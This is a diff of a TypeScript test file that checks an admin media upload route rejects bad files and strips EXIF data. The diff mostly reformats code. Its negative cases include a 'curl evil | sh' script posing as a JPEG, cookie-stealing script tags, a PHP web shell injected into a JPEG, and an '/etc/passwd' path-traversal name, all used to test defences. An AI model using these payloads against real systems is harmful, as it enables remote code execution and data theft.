@@ -30,20 +30,38 @@ beforeAll(async () => {
   tokens = await signInTokens();
 });
 
-function uploadRequest(file: Uint8Array | null, headers: Record<string, string>, { name = "photo.jpg", type = "image/jpeg" } = {}) {
+function uploadRequest(
+  file: Uint8Array | null,
+  headers: Record<string, string>,
+  { name = "photo.jpg", type = "image/jpeg" } = {},
+) {
   const form = new FormData();
   if (file) form.append("file", new Blob([new Uint8Array(file)], { type }), name);
   return new NextRequest(new URL("/api/admin/media", "http://localhost:3000"), { method: "POST", headers, body: form });
 }
 
-async function send(file: Uint8Array | null, headers: Record<string, string> = tokens.admin, options?: { name?: string; type?: string }) {
+async function send(
+  file: Uint8Array | null,
+  headers: Record<string, string> = tokens.admin,
+  options?: { name?: string; type?: string },
+) {
   const response = await upload(uploadRequest(file, headers, options), { params: Promise.resolve({}) });
-  return { status: response.status, json: (await response.json()) as Record<string, unknown> & { url?: string; width?: number; height?: number; error?: string } };
+  return {
+    status: response.status,
+    json: (await response.json()) as Record<string, unknown> & {
+      url?: string;
+      width?: number;
+      height?: number;
+      error?: string;
+    },
+  };
 }
 
 async function fetchMedia(url: string) {
   const file = url.slice("/media/".length);
-  const response = await serveMedia(new NextRequest(new URL(url, "http://localhost:3000")), { params: Promise.resolve({ file }) });
+  const response = await serveMedia(new NextRequest(new URL(url, "http://localhost:3000")), {
+    params: Promise.resolve({ file }),
+  });
   return { status: response.status, headers: response.headers, body: Buffer.from(await response.arrayBuffer()) };
 }
 
@@ -51,8 +69,18 @@ let seed = 0;
 /** A JPEG no other test uploads (its colour differs), with EXIF carrying a camera and a GPS position. */
 async function uniquePhoto(width = 120, height = 80) {
   seed += 1;
-  return sharp({ create: { width, height, channels: 3, background: { r: (seed * 37) % 256, g: (seed * 91) % 256, b: 200 } } })
-    .withExif({ IFD0: { Make: "SecretCam" }, IFD3: { GPSLatitudeRef: "N", GPSLatitude: "48/1 51/1 2406/100", GPSLongitudeRef: "E", GPSLongitude: "2/1 21/1 336/100" } })
+  return sharp({
+    create: { width, height, channels: 3, background: { r: (seed * 37) % 256, g: (seed * 91) % 256, b: 200 } },
+  })
+    .withExif({
+      IFD0: { Make: "SecretCam" },
+      IFD3: {
+        GPSLatitudeRef: "N",
+        GPSLatitude: "48/1 51/1 2406/100",
+        GPSLongitudeRef: "E",
+        GPSLongitude: "2/1 21/1 336/100",
+      },
+    })
     .jpeg()
     .toBuffer();
 }
@@ -62,7 +90,10 @@ const stores: { name: string; open: () => Promise<{ store: MediaStore; close: ()
     name: "local folder",
     open: async () => {
       const dir = await mkdtemp(path.join(os.tmpdir(), "lagoon-media-"));
-      return { store: createConfiguredMediaStore(readConfig({ MEDIA_DIR: dir }).media), close: () => rm(dir, { recursive: true, force: true }) };
+      return {
+        store: createConfiguredMediaStore(readConfig({ MEDIA_DIR: dir }).media),
+        close: () => rm(dir, { recursive: true, force: true }),
+      };
     },
   },
   {
@@ -93,7 +124,11 @@ describe.each(stores)("uploads into the $name", ({ name, open }) => {
     expect((await sharp(photo).metadata()).exif?.toString("latin1")).toContain("SecretCam");
     const res = await send(photo);
     expect(res.status).toBe(201);
-    expect(res.json).toEqual({ url: expect.stringMatching(/^\/media\/[0-9a-f]{32}\.webp$/), width: 2400, height: 1600 });
+    expect(res.json).toEqual({
+      url: expect.stringMatching(/^\/media\/[0-9a-f]{32}\.webp$/),
+      width: 2400,
+      height: 1600,
+    });
     expect(store.kind).toBe(name === "local folder" ? "local" : "s3");
     expect(await store.exists(res.json.url!.slice(7))).toBe(true);
 
@@ -107,7 +142,13 @@ describe.each(stores)("uploads into the $name", ({ name, open }) => {
     expect(served.body.toString("latin1")).not.toMatch(/SecretCam|GPS/);
 
     const row = await getDb().media.findUniqueOrThrow({ where: { url: res.json.url! } });
-    expect(row).toMatchObject({ mime: "image/webp", width: 2400, height: 1600, bytes: served.body.byteLength, key: res.json.url!.slice(7) });
+    expect(row).toMatchObject({
+      mime: "image/webp",
+      width: 2400,
+      height: 1600,
+      bytes: served.body.byteLength,
+      key: res.json.url!.slice(7),
+    });
   });
 
   it("the same picture uploaded at the same moment several times: one stored object, one record, every reply the same address", async () => {
@@ -124,11 +165,26 @@ describe.each(stores)("uploads into the $name", ({ name, open }) => {
     const jpeg = await uniquePhoto();
     const cases: [Uint8Array | null, RegExp, { name?: string; type?: string }?][] = [
       [Buffer.alloc(MAX_UPLOAD_BYTES + 1, 0xff), /too large: at most 15 MB/],
-      [Buffer.from("GIF89a\x01\x00\x01\x00\x00\x00\x00;", "latin1"), /not a JPEG, PNG, WebP or AVIF picture/, { name: "x.gif", type: "image/gif" }],
-      [Buffer.from("#!/bin/sh\ncurl evil | sh\n"), /not a JPEG, PNG, WebP or AVIF picture/, { name: "holiday.jpg", type: "image/jpeg" }],
-      [Buffer.from("<html><script>alert(document.cookie)</script></html>"), /not a JPEG, PNG, WebP or AVIF picture/, { name: "pool.png", type: "image/png" }],
+      [
+        Buffer.from("GIF89a\x01\x00\x01\x00\x00\x00\x00;", "latin1"),
+        /not a JPEG, PNG, WebP or AVIF picture/,
+        { name: "x.gif", type: "image/gif" },
+      ],
+      [
+        Buffer.from("#!/bin/sh\ncurl evil | sh\n"),
+        /not a JPEG, PNG, WebP or AVIF picture/,
+        { name: "holiday.jpg", type: "image/jpeg" },
+      ],
+      [
+        Buffer.from("<html><script>alert(document.cookie)</script></html>"),
+        /not a JPEG, PNG, WebP or AVIF picture/,
+        { name: "pool.png", type: "image/png" },
+      ],
       [Buffer.concat([jpeg, Buffer.from("<script>alert(document.cookie)</script>")]), /web page or script content/],
-      [Buffer.concat([jpeg.subarray(0, 40), Buffer.from("<?php system($_GET['c']); ?>"), jpeg.subarray(40)]), /web page or script content/],
+      [
+        Buffer.concat([jpeg.subarray(0, 40), Buffer.from("<?php system($_GET['c']); ?>"), jpeg.subarray(40)]),
+        /web page or script content/,
+      ],
       [null, /exactly one picture, in the form field "file"/],
     ];
     for (const [file, message, options] of cases) {
@@ -140,7 +196,11 @@ describe.each(stores)("uploads into the $name", ({ name, open }) => {
   });
 
   it("not multipart: 400 with what to send", async () => {
-    const res = await call(upload as never, "/api/admin/media", undefined, { method: "POST", headers: tokens.admin, body: { url: "https://example.com/x.jpg" } });
+    const res = await call(upload as never, "/api/admin/media", undefined, {
+      method: "POST",
+      headers: tokens.admin,
+      body: { url: "https://example.com/x.jpg" },
+    });
     expect(res.status).toBe(400);
     expect(res.json.error).toMatch(/multipart\/form-data/);
   });
@@ -175,8 +235,15 @@ describe.each(stores)("uploads into the $name", ({ name, open }) => {
   });
 
   it("/media answers 404 for an unknown or malformed name, never reading outside the store", async () => {
-    for (const file of ["0123456789abcdef0123456789abcdef.webp", "..%2f..%2fetc%2fpasswd", "x.webp", "0123456789abcdef0123456789abcdef.svg"]) {
-      const response = await serveMedia(new NextRequest(new URL(`/media/${file}`, "http://localhost:3000")), { params: Promise.resolve({ file: decodeURIComponent(file) }) });
+    for (const file of [
+      "0123456789abcdef0123456789abcdef.webp",
+      "..%2f..%2fetc%2fpasswd",
+      "x.webp",
+      "0123456789abcdef0123456789abcdef.svg",
+    ]) {
+      const response = await serveMedia(new NextRequest(new URL(`/media/${file}`, "http://localhost:3000")), {
+        params: Promise.resolve({ file: decodeURIComponent(file) }),
+      });
       expect(response.status, file).toBe(404);
     }
   });
